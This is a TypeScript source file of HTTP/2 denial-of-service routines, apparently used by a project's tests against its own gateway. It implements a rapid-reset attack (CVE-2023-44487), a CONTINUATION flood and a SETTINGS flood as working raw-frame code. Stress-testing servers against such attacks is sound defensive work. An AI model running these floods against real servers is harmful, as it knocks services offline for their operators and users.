/**
 * HTTP/2 attacks on a listener, written as raw frames (raw-http2.ts), each ending when the server
 * closes the connection: what test/http2 throws at the gateway. Not a test file.
 */
import { ErrorCode, Flag, frame, FrameType, getRequest, headerBlock, RawHttp2Connection } from './raw-http2.js';

/** Rapid reset (CVE-2023-44487): 10,000 streams of GET `path` each reset at once. Resolves with the connection once closed. */
export async function rapidReset(port: number, authority: string, path: string): Promise<RawHttp2Connection> {
  const connection = await RawHttp2Connection.open(port);
  const frames: Buffer[] = [];
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(ErrorCode.CANCEL);
  for (let id = 1; id < 20_000; id += 2) {
    frames.push(frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id, headerBlock(getRequest(authority, path))));
    frames.push(frame(FrameType.RST_STREAM, 0, id, cancel));
  }
  connection.write(Buffer.concat(frames));
  await connection.closed;
  return connection;
}

/** A CONTINUATION flood (the CVE-2024-27316 class): a request's header block that never ends, up to 10 MB of it. */
export async function continuationFlood(port: number, authority: string, path: string): Promise<RawHttp2Connection> {
  const connection = await RawHttp2Connection.open(port);
  connection.headers(1, getRequest(authority, path), Flag.END_STREAM);
  const junk = frame(FrameType.CONTINUATION, 0, 1, headerBlock([['x-junk', 'j'.repeat(1000)]]));
  for (let i = 0; i < 10_000 && !connection.socket.destroyed; i++) connection.write(junk);
  await connection.closed;
  return connection;
}

/** A SETTINGS flood: a million SETTINGS frames while not reading the acknowledgements. */
export async function settingsFlood(port: number): Promise<RawHttp2Connection> {
  const connection = await RawHttp2Connection.open(port);
  connection.socket.pause(); // the acknowledgements pile up at the server
  const settings = frame(FrameType.SETTINGS, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])); // MAX_CONCURRENT_STREAMS 100
  const burst = Buffer.concat(Array.from({ length: 10_000 }, () => settings));
  for (let i = 0; i < 100 && !connection.socket.destroyed; i++) connection.write(burst);
  connection.socket.resume();
  await connection.closed;
  return connection;
}
